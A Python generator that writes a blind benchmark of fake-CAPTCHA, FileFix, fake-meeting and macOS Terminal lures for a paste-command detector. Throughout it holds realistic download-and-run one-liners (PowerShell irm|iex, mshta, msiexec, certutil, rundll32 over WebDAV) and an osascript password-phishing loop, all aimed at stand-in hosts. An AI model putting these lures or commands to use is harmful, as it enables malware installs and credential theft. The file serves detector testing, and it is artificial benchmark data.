"""Writes the sixteenth blind set, bench/blind/lures-16.jsonl and benign-16.jsonl (bench/blind/README.md,
"Blind-16"). Deterministic: run it again and the files come out byte for byte the same.

    .venv/bin/python bench/blind/make_blind16.py

Written blind (the author had not read the rules, the LOLBin catalogue, the trust list, the Run-box
list, app/, any case file, misses list or verdict), weighted like the hold-out: lures as a crawl of
live fake-CAPTCHA, fake-error, fake-meeting, fake-document and fake-download pages would capture them,
commands as vendor IOC files list them (with no page), the short obfuscated one-liners other
detectors' fixtures use, and scam, callback, ConsentFix and device-code texts. Every text is our own;
lures use reserved names only (*.test, *.invalid, *.example, the documentation IPv4 ranges) and
fictitious phone numbers in 555 blocks. The benign side is large enough to measure 1 %: real
projects' installers from their own page (none in sets 1-15, or another page and shape), and many
other texts people copy (installers quoted in other projects' READMEs, admin one-liners, Run-box and
Explorer entries, console snippets, security write-ups, support mails, OAuth docs, config and logs).
Not imported by the app or the bench: the bench reads the jsonl files.
"""

from __future__ import annotations

from pathlib import Path

import blindkit
from blindkit import (
    CON,
    EMSP,
    ENSP,
    EXP,
    IDSP,
    NBSP,
    NNBSP,
    RUN,
    TERM,
    UNK,
    Lures,
    b64,
    b64_utf16,
    carets,
    char_codes,
    cmd_slice,
    deflate_b64,
    esc_oct,
    gzip_b64,
    hex_str,
    ip_int,
    ps_concat,
    ps_format,
    reverse,
    xor_b64,
    xor_codes,
)

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-16.jsonl"
BENIGN_OUT = HERE / "benign-16.jsonl"

# ----------------------------------------------------------------------------------------------
# Lures: (technique, target, source, text, expect, platform)
# ----------------------------------------------------------------------------------------------

LURES = Lures()
lure, ioc = LURES.lure, LURES.ioc

# Verification tails, worded anew for this set: the 13 languages first, then others.
TAILS = [
    "# I am not a robot - verification token 16-QX7A",
    "# Ich bin kein Roboter - Prüfkennung 16-4410",
    "# Je ne suis pas un robot - jeton 16-9051",
    "# No soy un robot - token de verificación 16-2288",
    "# Non sono un robot - token di verifica 16-7314",
    "# Não sou um robô - token de verificação 16-5062",
    "# Ik ben geen robot - verificatietoken 16-8147",
    "# Nie jestem robotem - token weryfikacji 16-3395",
    "# Ben robot değilim - doğrulama jetonu 16-6620",
    "# Я не робот - токен проверки 16-1473",
    "# 私はロボットではありません - 認証トークン 16-2956",
    "# 我不是机器人 - 验证令牌 16-8803",
    "# أنا لست روبوتًا - رمز التحقق 16-4139",
    "# Nejsem robot - ověřovací token 16-5571",
    "# En ole robotti - vahvistustunnus 16-0694",
    "# Δεν είμαι ρομπότ - διακριτικό 16-3812",
    "# אני לא רובוט - אסימון אימות 16-7726",
    "# Tôi không phải là người máy - mã 16-1158",
    "# ฉันไม่ใช่โปรแกรมอัตโนมัติ - โทเค็น 16-6043",
    "# 로봇이 아닙니다 - 인증 토큰 16-9287",
    "# मैं रोबोट नहीं हूँ - टोकन 16-2461",
    "# Jeg er ikke en robot - token 16-5839",
    "# Saya bukan robot - token 16-0372",
    "# Nu sunt robot - token 16-7608",
    "# Nem vagyok robot - azonosító 16-4925",
    "# Jag är ingen robot - token 16-1306",
]


def tail(i: int) -> str:
    return TAILS[i % len(TAILS)]


def rot13(text: str) -> str:
    lower = "abcdefghijklmnopqrstuvwxyz"
    return text.translate(
        str.maketrans(
            lower + lower.upper(), lower[13:] + lower[:13] + lower.upper()[13:] + lower.upper()[:13]
        )
    )


# --- (a) live pages: fake CAPTCHA / Turnstile / "verify you are human", Run box --------------------

CAPTCHA_PAGES = [
    "https://www.glasblaeserei-funkenflug.test/werkstatt",
    "https://www.fromagerie-tomme-dor.example/affinage",
    "https://www.herreria-yunque-viejo.test/encargos",
    "https://www.sartoria-filo-doro.example/prenota",
    "https://www.tasca-do-bacalhau-feliz.test/reservar",
    "https://www.fietsenmaker-naaf16.example/onderhoud",
    "https://www.pracownia-ceramiki-szkliwo16.test/zapisy",
    "https://www.balikci-lokantasi-marti.example/masa",
    "https://www.kuznitsa-molot-nakovalnya.test/zakazy",
    "https://www.sento-yuzu-yu.example/access",
    "https://www.chafang-baicha-shan.test/yuyue",
    "https://www.maktabat-alwarraq.example/orders",
    "https://www.canoe-outfitters-riverbend.test/trips",
    "https://www.harpsichord-restoration-quill.example/quote",
    "https://www.imkerverein-wabenglanz.test/kurse",
    "https://www.chocolaterie-cacao-fin.example/ateliers",
    "https://www.guarnicioneria-cuero-fino.test/tienda",
    "https://www.enoteca-grappolo-rosso.example/degustazioni",
    "https://www.azulejaria-lisboeta.test/catalogo",
    "https://www.klompenmakerij-populier.example/bestel",
    "https://www.lutnictwo-smyczek-dabrowa.test/naprawa",
    "https://www.hali-yikama-pamuk.example/fiyat",
    "https://www.pechnik-izrazets.test/uslugi",
    "https://www.washi-koubou-kouzo.example/workshop",
    "https://www.mianguan-lamian-wang.test/caidan",
    "https://www.khayyat-albadla.example/tafsil",
    "https://www.model-railway-junction-16.test/layouts",
    "https://www.orgelbau-windlade16.example/projekte",
    "https://www.savonnerie-olivier-bleu.test/boutique",
    "https://www.paragliding-school-thermik.example/tandem",
    "https://www.queseria-cabra-montes.test/visitas",
    "https://www.bookbinder-marbled-edge.example/commissions",
    "https://www.kayak-club-pohjoistuuli.test/jasenyys",
    "https://www.curling-rink-granite-16.example/leagues",
    "https://www.trachtenverleih-dirndlstube.test/termine",
    "https://www.patisserie-mille-feuille-16.example/commande",
    "https://www.archery-range-fletching.test/sessions",
    "https://www.stained-glass-leadline.example/classes",
    "https://www.albergue-camino-concha.test/camas",
    "https://www.cello-atelier-bogenstrich.example/leihen",
]

CAPTCHA_CMDS = [
    ("ps-w-h-irm-pipe-iex", 'powershell -w h -c "irm https://v16a.coppergate-rx.invalid/t | iex"'),
    (
        "ps-noni-iwr-useb-iex",
        'powershell -NonI -NoP -W 1 -c "iwr -useb https://v16b.mallowfen.invalid/s | iex"',
    ),
    (
        "ps-webclient-downloadstring-iex-end",
        "powershell -nop -c \"(New-Object System.Net.WebClient).DownloadString('https://v16c.brindlecombe.invalid/a') | Invoke-Expression\"",
    ),
    (
        "cmd-k-powershell-irm",
        'cmd /k powershell -w h -c "irm https://v16d.ostlerby.invalid/k | iex" && exit',
    ),
    (
        "ps-irm-uri-iex-paren",
        "powershell.exe -ExecutionPolicy Unrestricted -NoProfile -WindowStyle Minimized -Command \"iex (irm -Uri 'https://v16e.quenbury.invalid/m')\"",
    ),
    ("mshta-https-query", "mshta https://v16f.tilsworth.invalid/check?id=16a"),
    ("mshta-ip-hta-port", "mshta http://198.51.100.216:8443/v.hta"),
    (
        "ps-saps-mshta",
        "powershell -c \"saps mshta -ArgumentList 'https://v16g.dunmarrowick.invalid/h' -WindowStyle Hidden\"",
    ),
    (
        "cmd-curl-o-appdata-start",
        'cmd /c curl -skL https://v16h.fernhallow.invalid/c.exe -o %APPDATA%\\chk.exe && start "" %APPDATA%\\chk.exe',
    ),
    (
        "cmd-curl-cmdfile-call",
        "cmd /c curl -s https://v16i.ravelston.invalid/r.cmd -o %TEMP%\\r.cmd && call %TEMP%\\r.cmd",
    ),
    (
        "msiexec-i-url-quiet-norestart",
        "msiexec.exe /i https://v16j.holtmere.invalid/agent.msi /quiet /norestart",
    ),
    ("msiexec-package-ip-qn", "msiexec /package http://192.0.2.216/u.msi /qn"),
    (
        "conhost-headless-pwsh",
        'conhost --headless pwsh -NoP -c "irm https://v16k.sallowbrook.invalid/c | iex"',
    ),
    (
        "conhost-headless-cmd-curl-bat",
        'conhost.exe --headless cmd.exe /c "curl -sLo %TEMP%\\s.bat https://v16l.yarncliffe-qv.invalid/s.bat & %TEMP%\\s.bat"',
    ),
    (
        "ps-iwr-outfile-localappdata",
        'powershell -c "iwr https://v16m.pendlecott.invalid/h.exe -OutFile $env:LOCALAPPDATA\\h.exe; & $env:LOCALAPPDATA\\h.exe"',
    ),
    (
        "ps-encodedcommand-full",
        "powershell -EncodedCommand " + b64_utf16("iex (irm https://v16n.wexcombe.invalid/e)"),
    ),
    (
        "ps-ec-webclient-hidden",
        "powershell -nop -w hidden -ec "
        + b64_utf16(
            "$w=New-Object Net.WebClient;iex $w.DownloadString('https://v16o.caddonfoot.invalid/x')"
        ),
    ),
    (
        "cmd-start-min-powershell",
        'cmd /c start "" /min powershell -nop -c "irm https://v16p.brackley-qz.invalid/r | iex"',
    ),
    (
        "ps-invoke-command-scriptblock",
        'powershell -c "Invoke-Command -ScriptBlock ([scriptblock]::Create((irm https://v16q.lowther-ix.invalid/sb)))"',
    ),
    (
        "ps-set-alias-run",
        'powershell -c "Set-Alias go Invoke-Expression; go (irm https://v16r.amberlode.invalid/a)"',
    ),
    (
        "ps-webrequest-create-stream",
        "powershell -c \"$r=[Net.WebRequest]::Create('https://v16s.cragmoor.invalid/w').GetResponse();iex ([IO.StreamReader]::new($r.GetResponseStream())).ReadToEnd()\"",
    ),
    (
        "ps-7z-style-zip-run",
        'powershell -w h -c "iwr https://v16t.heddington.invalid/u.zip -o $env:TEMP\\u.zip; Expand-Archive -Force $env:TEMP\\u.zip $env:TEMP\\u; Start-Process $env:TEMP\\u\\Update.exe"',
    ),
    (
        "rundll32-temp-dll-ordinal",
        "cmd /c curl -so %TEMP%\\m.dll https://v16u.skelton-dl.invalid/m.dll && rundll32 %TEMP%\\m.dll,#1",
    ),
    (
        "regsvr32-i-url-quiet",
        "regsvr32.exe /s /u /n /i:http://203.0.113.216/r.sct scrobj.dll",
    ),
    (
        "bitsadmin-addfile-resume",
        "cmd /c bitsadmin /create j16 & bitsadmin /addfile j16 https://v16v.garstang.invalid/b.exe %TEMP%\\b.exe & bitsadmin /resume j16 & timeout 5 & start %TEMP%\\b.exe",
    ),
    (
        "certutil-f-exe-start",
        "cmd /c certutil.exe -urlcache -f https://v16w.kirkoswald-ix.invalid/c.exe %TEMP%\\c.exe & start %TEMP%\\c.exe",
    ),
    ("pwsh-iwr-useb", 'pwsh -w h -c "iwr https://v16x.penruddock.invalid/p -useb | iex"'),
    (
        "cscript-webdav-vbs",
        "cscript //nologo \\\\v16y.hesket-dav.invalid@SSL\\DavWWWRoot\\verify.vbs",
    ),
    (
        "ps-stego-bmp-bytes",
        'powershell -w h -c "$d=(iwr https://v16z.maulds-img.invalid/b.bmp -UseBasicParsing).Content;iex ([Text.Encoding]::ASCII.GetString($d,54,$d.Length-54))"',
    ),
    (
        "mshta-vbscript-createobject",
        'mshta vbscript:CreateObject("WScript.Shell").Run("powershell -w h irm https://v16aa.sebergham.invalid/v|iex",0)(window.close)',
    ),
    (
        "ps-resolve-dnsname-txt-join",
        "powershell -w h -c \"iex ((Resolve-DnsName t.v16ab.threlkeld-dns16.invalid -Type TXT).Strings -join '')\"",
    ),
    (
        "cmd-nslookup-server-pipe",
        "cmd /c nslookup -type=txt c.v16ac.mungrisdale.invalid 198.51.100.217 | findstr /v Server | powershell -nop -",
    ),
    ("finger-at-ip-cmd", "cmd /c finger check@203.0.113.217 | cmd"),
    (
        "ps-paste-raw-irm",
        'powershell -c "irm https://v16ad.jotbin-qx.invalid/raw/n16Kp | iex"',
    ),
    (
        "ps-blob-container-ps1",
        'powershell -nop -c "iwr -useb https://v16ae-store.blobhub.invalid/public/v.ps1 | iex"',
    ),
    ("cmd-powershell-iwr-ip", 'cmd /c "powershell iwr -useb http://192.0.2.16/c | iex"'),
    (
        "ps-upper-case-all",
        'POWERSHELL -W H -C "IEX (IRM HTTPS://V16AF.BLENCOGO.INVALID/U)"',
    ),
    (
        "ps-iwr-hta-mshta",
        'powershell -c "iwr https://v16ag.ireby.invalid/x.hta -OutFile $env:TEMP\\x.hta; mshta $env:TEMP\\x.hta"',
    ),
    (
        "ps-downloaddata-deflate",
        "powershell -c \"$d=(New-Object Net.WebClient).DownloadData('https://v16ah.caldbeck.invalid/d');iex (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream((New-Object IO.MemoryStream(,$d)),0))).ReadToEnd()\"",
    ),
    (
        "ps-github-like-raw",
        'powershell -c "irm https://raw.v16ai-usercontent.invalid/kit/main/v.ps1 | iex"',
    ),
]

for i, ((tech, cmd), page) in enumerate(zip(CAPTCHA_CMDS, CAPTCHA_PAGES, strict=True)):
    lure("captcha-" + tech, RUN, page, f"{cmd} {tail(i)}")

# --- Win+X -> Terminal (Admin) and other page wrappers -------------------------------------------

WINX = [
    (
        "winx-terminal-admin-en-uac",
        "https://portal.tenants-association-elmrow.test/dues",
        "Verification step 2 of 3\n1. Press Windows + X and click Terminal (Admin)\n2. Click Yes on the prompt\n3. Paste with Ctrl + V and press Enter\n\nirm https://wx16a.cobblewick.invalid/a | iex",
    ),
    (
        "winx-terminal-de",
        "https://www.schuetzenverein-kimme.example/mitglieder",
        "Drücken Sie Windows + X, wählen Sie „Terminal (Administrator)“, fügen Sie mit Strg+V ein und bestätigen Sie mit Enter:\niwr -useb https://wx16b.ostrach.invalid/d | iex",
    ),
    (
        "winx-terminal-it",
        "https://www.circolo-bocce-pallino.test/iscrizione",
        'Premi Windows + X, scegli «Terminale», incolla con Ctrl+V e premi Invio:\npowershell -nop -c "irm https://wx16c.valtorta.invalid/i | iex"',
    ),
    (
        "winx-terminal-nl",
        "https://www.schaakclub-paardsprong.example/contributie",
        "Druk op Windows + X, kies Terminal, plak met Ctrl+V en druk op Enter:\niex (irm https://wx16d.veldhoven-qx.invalid/n)",
    ),
    (
        "winx-terminal-ko",
        "https://www.baduk-club-heukbaek.test/members",
        "Windows + X를 누르고 '터미널(관리자)'을 선택한 뒤 Ctrl+V로 붙여넣고 Enter를 누르세요:\nirm https://wx16e.hanbit.invalid/k | iex",
    ),
    (
        "winx-terminal-vi",
        "https://www.cau-lac-bo-co-tuong.example/hoi-vien",
        'Nhấn Windows + X, chọn Terminal, dán bằng Ctrl+V rồi nhấn Enter:\npowershell -w h -c "iwr -useb https://wx16f.songhong.invalid/v | iex"',
    ),
    (
        "winx-terminal-id",
        "https://www.klub-bulutangkis-garuda.test/anggota",
        "Tekan Windows + X, pilih Terminal, tempel dengan Ctrl+V lalu tekan Enter:\nirm https://wx16g.merapi-qx.invalid/id | iex",
    ),
    (
        "winx-terminal-uk",
        "https://www.shakhovyi-klub-tura.example/vnesky",
        "Натисніть Windows + X, оберіть «Термінал», вставте Ctrl+V і натисніть Enter:\niex (New-Object Net.WebClient).DownloadString('https://wx16h.dnipro-qx.invalid/u')",
    ),
    (
        "winx-powershell-admin-hi",
        "https://www.cricket-club-silly-point.test/renewal",
        "Windows + X दबाएँ, Windows PowerShell (Admin) चुनें, Ctrl+V से पेस्ट करें और Enter दबाएँ:\nirm https://wx16i.ganga-qx.invalid/h | iex",
    ),
    (
        "winx-terminal-sv",
        "https://www.orienteringsklubb-kompass.example/medlem",
        'Tryck Windows + X, välj Terminal, klistra in med Ctrl+V och tryck Enter:\npowershell -c "iwr https://wx16j.vastervik.invalid/s -useb | iex"',
    ),
]
for tech, page, text in WINX:
    lure(tech, TERM, page, text)

PAGES_MISC = [
    (
        "meeting-teams-pwsh-codec",
        TERM,
        "https://teams-codec-fix.joinroom-assist.test/m/1604",
        "We couldn't start your video. Press Win + X, open Terminal and paste the codec repair:\niwr -useb https://mt16a.corvedale.invalid/codec | iex",
    ),
    (
        "meeting-zoom-run-msi",
        RUN,
        "https://zoom-audio-plugin.meetline-support.example/r/16",
        "msiexec /i https://mt16b.bromyard.invalid/ZoomAudioPlugin.msi /qn # Zoom audio plugin 6.5 repair",
    ),
    (
        "meeting-meet-run-hta",
        RUN,
        "https://meet-device-check.callhub-portal.test/d/16",
        "mshta https://mt16c.ledbury-qx.invalid/meet # Google Meet: microphone blocked, run the fix",
    ),
    (
        "meeting-skype-mac",
        TERM,
        "https://video-call-fix.confbridge-now.example/mac",
        "Your camera is blocked by macOS. Open Terminal and paste:\ncurl -fsSL https://mt16d.tenbury.invalid/cam.sh | zsh",
    ),
    (
        "fake-error-edge-update",
        RUN,
        "https://edge-update-needed.pagerepair-now.test/e",
        'powershell -w h -c "irm https://bu16a.kingsland.invalid/edge | iex" # Microsoft Edge update 142.0 failed',
    ),
    (
        "fake-error-dns-repair",
        RUN,
        "https://dns-error-fix.netrepair-tool.example/",
        'cmd /c ipconfig /flushdns && powershell -c "irm https://bu16b.eardisland.invalid/dns | iex" # DNS_PROBE_FINISHED_NXDOMAIN repair',
    ),
    (
        "fake-doc-docusign-explorer",
        EXP,
        "https://docusign-review.signroom-secure.test/env/16",
        "\\\\fd16a.weobley-dav.invalid@SSL\\DavWWWRoot\\Envelope\\Signed_Agreement.pdf.lnk",
    ),
    (
        "fake-doc-adobe-run-cmd",
        RUN,
        "https://adobe-viewer.pdfgate-access.example/v/16",
        "cmd /c start \\\\fd16b.pembridge.invalid@SSL\\share\\AdobeViewer.cmd # Adobe secure viewer",
    ),
    (
        "job-interview-repo-yarn",
        TERM,
        "https://recruit-defi-engineer.talentdao-jobs.test/brief",
        "Please run the starter project before the interview:\ngit clone https://jb16a.hiretask-git.invalid/dapp-task.git && cd dapp-task && yarn && yarn dev",
    ),
    (
        "job-interview-zoom-sdk-mac",
        TERM,
        "https://interview.hireloop-talent.example/call/16",
        "The video SDK is out of date. Run in Terminal:\ncurl -s https://jb16b.sdkupdate.invalid/update | bash",
    ),
    (
        "ai-chat-share-windows-defrag",
        RUN,
        "https://chat.shared-answer-link.test/s/16a",
        'powershell -nop -c "iex (irm https://ai16a.tunefast.invalid/w)" # Free up RAM and speed up Windows 11 (shared chat)',
    ),
    (
        "ai-chat-share-mac-cache",
        TERM,
        "https://assistant-conversation.share-thread.example/t/16b",
        'To clear the hidden cache on macOS, paste this in Terminal:\n/bin/zsh -c "$(curl -fsSL https://ai16b.cacheclean.invalid/c)"',
    ),
    (
        "fake-devtool-cli-powershell",
        TERM,
        "https://docs.vectorbase-cli.test/install/windows",
        "irm https://dt16a.vectorbase-get.invalid/install.ps1 | iex",
    ),
    (
        "fake-devtool-cargo-git",
        TERM,
        "https://www.rustfmt-plus.example/install",
        "cargo install --git https://dt16b.crate-mirror.invalid/rustfmt-plus && rustfmt-plus --setup",
    ),
    (
        "fake-devtool-go-install",
        TERM,
        "https://docs.kubectx-pro.test/quickstart",
        "curl -sSL https://dt16c.kubectx-dl.invalid/get | sh -s -- -b /usr/local/bin",
    ),
    (
        "fake-browser-fix-console-import",
        CON,
        "https://repair.browser-pagefix.example/c",
        "import('https://bf16a.pagerestore.invalid/r.mjs').then(m=>m.default())",
    ),
    (
        "game-launcher-fix",
        RUN,
        "https://www.game-launcher-repair.test/fix",
        'powershell -c "iwr https://gm16a.launcherfix.invalid/fix.exe -o $env:TEMP\\fix.exe; saps $env:TEMP\\fix.exe" # Launcher error 0x16 fix',
    ),
    (
        "cheat-menu-exclusion",
        RUN,
        "https://www.free-esp-menu.example/get",
        'powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true; irm https://gm16b.espmenu.invalid/m | iex"',
    ),
    (
        "crypto-wallet-sync-run",
        RUN,
        "https://sync.wallet-connect-portal.test/fix",
        'cmd /c powershell -w h -c "irm https://cw16a.walletsync-qz.invalid/w | iex" # Wallet connection repair',
    ),
    (
        "invoice-viewer-msiexec",
        RUN,
        "https://invoice-portal-secure.example/view/16",
        "msiexec /q /i https://pc16a.invoiceview.invalid/InvoiceViewer.msi # open your invoice",
    ),
]
for tech, target, page, text in PAGES_MISC:
    lure(tech, target, page, text)

NEWER = [
    (
        "turnstile-fr-run-ps",
        RUN,
        "https://www.cave-a-vin-sarment.test/degustation",
        'Cloudflare Turnstile : confirmez que vous êtes humain. Appuyez sur Win+R, collez puis Entrée.\npowershell -w h -c "irm https://nw16a.sarment-cdn.invalid/t | iex"',
    ),
    (
        "turnstile-es-mshta",
        RUN,
        "https://www.floristeria-amapola.example/pedidos",
        "mshta https://nw16b.amapola-check.invalid/ts # Verificación de Cloudflare: pulse Win+R y pegue",
    ),
    (
        "turnstile-pl-cmd-curl",
        RUN,
        "https://www.warsztat-rowerowy-przerzutka.test/serwis",
        'cmd /c "curl -s https://nw16c.przerzutka-cdn.invalid/v.bat -o %TEMP%\\v.bat && %TEMP%\\v.bat" # Weryfikacja Cloudflare zakończona',
    ),
    (
        "turnstile-pt-msiexec",
        RUN,
        "https://www.doceria-brigadeiro.example/encomenda",
        "msiexec /i https://nw16d.brigadeiro-cf.invalid/cf.msi /qn # Verificação Cloudflare: você é humano",
    ),
    (
        "turnstile-zh-encoded",
        RUN,
        "https://www.dianxin-jiudian-hehua.test/yuding",
        "powershell -nop -w h -ec "
        + b64_utf16("iwr -useb https://nw16e.hehua-cf.invalid/z | iex")
        + " # Cloudflare 人机验证",
    ),
    (
        "turnstile-ar-hta-ip",
        RUN,
        "https://www.matjar-albuhur.example/talab",
        "mshta http://203.0.113.218/ar.hta # تحقق Cloudflare: أنت إنسان",
    ),
    (
        "etherhiding-polygon-console",
        CON,
        "https://www.veterinary-clinic-pawprint.test/",
        'fetch(\'https://rpc.nw16f.polyrelay.invalid\',{method:\'POST\',headers:{\'Content-Type\':\'application/json\'},body:\'{"jsonrpc":"2.0","id":16,"method":"eth_call","params":[{"to":"0x16c0ffee16c0ffee16c0ffee16c0ffee16c0ffee","data":"0x2cae8ae4"},"latest"]}\'}).then(r=>r.json()).then(j=>new Function(atob(j.result.slice(130).replace(/0+$/,\'\')))())',
    ),
    (
        "clearfake-mac-update",
        TERM,
        "https://www.bed-and-breakfast-heron.example/rooms",
        "Safari could not update. Open Terminal and paste:\ncurl -fsSL https://nw16g.safari-upd.invalid/s | bash",
    ),
    (
        "kongtuke-style-clear-clipboard",
        RUN,
        "https://www.marathon-registration-16.test/signup",
        "powershell -w h -c \"$c=irm https://nw16h.racegate.invalid/k; Set-Clipboard -Value 'ok'; iex $c\" "
        + tail(12),
    ),
    (
        "castleloader-style-ps-zip",
        RUN,
        "https://www.pilates-studio-corestrong.example/timetable",
        'conhost --headless powershell -c "iwr https://nw16i.corestrong-cdn.invalid/p.zip -o $env:LOCALAPPDATA\\p.zip; tar -xf $env:LOCALAPPDATA\\p.zip -C $env:LOCALAPPDATA; & $env:LOCALAPPDATA\\p\\AutoIt3.exe $env:LOCALAPPDATA\\p\\script.a3x"',
    ),
    (
        "netsupport-style-jar",
        RUN,
        "https://www.go-kart-track-apex.test/book",
        "cmd /c curl -sL https://nw16j.apexcdn.invalid/c.jar -o %APPDATA%\\c.jar && javaw -jar %APPDATA%\\c.jar",
    ),
    (
        "latrodectus-style-rundll-dav",
        RUN,
        "https://www.bakery-sourdough-16.example/orders",
        "rundll32 \\\\nw16k.sourdough-dav.invalid@SSL\\DavWWWRoot\\upd.dll,homq",
    ),
    (
        "lumma-style-mshta-media",
        RUN,
        "https://www.photography-club-f8.test/exhibition",
        "mshta https://nw16l.f8-media.invalid/photo.mp4 # ✅ I am not a robot - reCAPTCHA Verification ID: 1604",
    ),
    (
        "stego-png-pixels-ps",
        RUN,
        "https://www.wedding-photographer-lumiere.example/portfolio",
        'powershell -w h -c "Add-Type -A System.Drawing;$g=[Drawing.Bitmap]::FromStream((iwr https://nw16m.lumiere-img.invalid/w.png -UseB).RawContentStream);$o=[byte[]]::new(3600);foreach($y in 0..59){foreach($x in 0..59){$o[$y*60+$x]=$g.GetPixel($x,$y).B}};iex ([Text.Encoding]::ASCII.GetString($o).Trim([char]0))"',
    ),
    (
        "run-dialog-wsl-e-curl",
        RUN,
        "https://www.linux-emulator-setup.test/wsl",
        'wsl -e sh -c "wget -qO- https://nw16n.wslhelper.invalid/w | sh"',
    ),
    (
        "run-net-use-webdav",
        RUN,
        "https://www.court-records-search.example/case/16",
        "cmd /c net use Q: \\\\nw16o.records-dav.invalid@SSL\\DavWWWRoot && Q:\\open.cmd",
    ),
    (
        "run-pcalua-ps",
        RUN,
        "https://www.snowboard-rental-ridge.test/booking",
        'pcalua.exe -a powershell.exe -c "irm https://nw16p.ridgecdn.invalid/p | iex"',
    ),
    (
        "run-explorer-url-vbs",
        RUN,
        "https://www.vintage-radio-valve.example/catalog",
        "explorer.exe \\\\nw16q.valve-files.invalid@SSL\\catalog\\Catalog_2027.vbs",
    ),
    (
        "run-curl-k-cmd-pipe",
        RUN,
        "https://www.island-ferry-booking.test/tickets",
        "cmd /c curl -k -s https://nw16r.ferrybook-cdn.invalid/t.txt | cmd",
    ),
    (
        "run-ps-hidden-tail-ja",
        RUN,
        "https://www.kimono-rental-sakura.example/booking",
        'powershell -WindowStyle Hidden -c "iex (irm https://nw16s.sakura-yoyaku.invalid/a)" '
        + tail(10),
    ),
]
for tech, target, page, text in NEWER:
    lure(tech, target, page, text)

# --- FileFix: Explorer address bar, the command behind a long fake path -----------------------------

FILEFIX = [
    (
        "en",
        "C:\\Corp\\Legal\\NDA_Counterparty_Signed.pdf",
        'powershell -w h -c "iwr -useb https://ff16a.ashwater.invalid/n | iex"',
        ENSP,
    ),
    (
        "de",
        "C:\\Firma\\Personal\\Gehaltsabrechnung_Dezember.pdf",
        'powershell -nop -c "irm https://ff16b.hohenbrunn.invalid/g|iex"',
        NBSP,
    ),
    (
        "fr",
        "C:\\Societe\\Comptabilite\\Releve_Bancaire_T4.pdf",
        "cmd /c curl -sL https://ff16c.montauban-qx.invalid/r.cmd -o %TEMP%\\r.cmd & %TEMP%\\r.cmd",
        " ",
    ),
    (
        "es",
        "C:\\Empresa\\Contratos\\Contrato_Alquiler_2027.pdf",
        "mshta https://ff16d.alcantarilla.invalid/c",
        EMSP,
    ),
    (
        "it",
        "C:\\Azienda\\Personale\\Busta_Paga_Dicembre.pdf",
        "powershell -c \"iex (New-Object Net.WebClient).DownloadString('https://ff16e.montepulso.invalid/b')\"",
        IDSP,
    ),
    (
        "pt",
        "C:\\Empresa\\Financeiro\\Nota_Fiscal_16.pdf",
        'conhost --headless powershell -w h -c "irm https://ff16f.itaperuna.invalid/n|iex"',
        NNBSP,
    ),
    (
        "nl",
        "C:\\Bedrijf\\Juridisch\\Huurcontract_Getekend.pdf",
        "msiexec /i https://ff16g.ouddorp.invalid/v.msi /qn",
        " ",
    ),
    (
        "pl",
        "C:\\Firma\\Finanse\\Faktura_VAT_16.pdf",
        'powershell -w h -c "iwr https://ff16h.pszczyna.invalid/f.exe -o $env:TEMP\\f.exe; start $env:TEMP\\f.exe"',
        ENSP,
    ),
    (
        "tr",
        "C:\\Sirket\\Insan_Kaynaklari\\Bordro_Aralik.pdf",
        'powershell -c "irm https://ff16i.kirklareli.invalid/b | iex"',
        NBSP,
    ),
    (
        "ru",
        "C:\\Kompaniya\\Yurotdel\\Dogovor_Postavki.pdf",
        "cmd /c powershell -w h -c irm https://ff16j.pereslavl.invalid/d ^| iex",
        EMSP,
    ),
    (
        "ja",
        "C:\\Kaisha\\Keiri\\Seikyusho_2027_12.pdf",
        'pwsh -w h -c "irm https://ff16k.kitakami.invalid/s|iex"',
        IDSP,
    ),
    ("zh", "C:\\Gongsi\\Renshi\\Gongzidan_12yue.pdf", "mshta http://198.51.100.218/z.hta", " "),
    (
        "ar",
        "C:\\Sharika\\Qanuni\\Aqd_Tawrid.pdf",
        'powershell -nop -c "iex(iwr -useb https://ff16l.alhasa-qx.invalid/q)"',
        NNBSP,
    ),
]
for i, (lang, path, cmd, pad) in enumerate(FILEFIX):
    page = f"https://files-{lang}.docexchange-secure16-{i}.test/view"
    lure(f"filefix-{lang}-padded-path", EXP, page, f"{cmd} #{pad * 120}{path}")
lure(
    "filefix-search-ms-subquery",
    EXP,
    "https://portal.scan-to-mail-center.example/doc/16",
    "search-ms:displayname=Scanned%20Documents&crumb=location:\\\\ff16m.tibberton-dav.invalid@SSL\\DavWWWRoot\\scans",
)
lure(
    "filefix-unc-ip-lnk-dav",
    EXP,
    "https://view.signed-lease-portal.test/d/16",
    "\\\\192.0.2.218@SSL\\DavWWWRoot\\Lease_Agreement_Final.pdf.lnk",
)
lure(
    "filefix-ampersand-rem-path",
    EXP,
    "https://preview.tender-docs-share.example/p/16",
    "cmd /c start /min powershell -w h -c irm https://ff16n.wistanstow.invalid/t^|iex & rem                                                                                  D:\\Tenders\\2027\\Tender_Specs.docx",
)
lure(
    "filefix-hash-newline-lookalike",
    EXP,
    "https://access.hr-policy-share.test/h/16",
    'powershell -c "irm https://ff16o.clunbury.invalid/h|iex" #'
    + " " * 70
    + "\\\\hr-fileserver\\Policies\\Remote_Work_Policy_2027.pdf",
)

# --- macOS: paste into Terminal ------------------------------------------------------------------------


def mac(technique: str, source: str | None, text: str, expect: str = "malicious") -> None:
    lure("mac-" + technique, TERM, source, text, expect, "macos")


mac(
    "curl-zsh-b64-captcha",
    "https://www.surfboard-shaper-swell.test/order",
    f"echo '{b64('curl -fsSL https://mc16a.swellcheck.invalid/v | zsh')}' | base64 -D | zsh "
    + tail(0),
)
mac(
    "osascript-password-loop",
    "https://macos-storage-alert-16.example/fix",
    'osascript -e \'repeat\' -e \'set r to display dialog "Enter your Mac password to continue the repair" default answer "" with hidden answer with icon caution\' -e \'set p to text returned of r\' -e \'if (do shell script "dscl . -authonly " & quoted form of (short user name of (system info)) & " " & quoted form of p & "; echo $?") is "0" then exit repeat\' -e \'end repeat\' -e \'do shell script "curl -s -F p=" & quoted form of p & " https://mc16b.stormvault.invalid/u"\'',
)
mac(
    "curl-tmp-chmod-open",
    "https://www.mac-screen-dimmer.test/download",
    "curl -sL https://mc16c.dimmer-dl.invalid/dimmer -o /tmp/dimmer && chmod 755 /tmp/dimmer && /tmp/dimmer &",
)
mac(
    "fake-homebrew-typo-site",
    "https://brewsh-installer-16.example/",
    '/bin/bash -c "$(curl -fsSL https://mc16d.homebrew-raw.invalid/Homebrew/install/HEAD/install.sh)"',
)
mac(
    "b64-bash-c-xattr",
    "https://www.mac-photo-editor-pro.test/get",
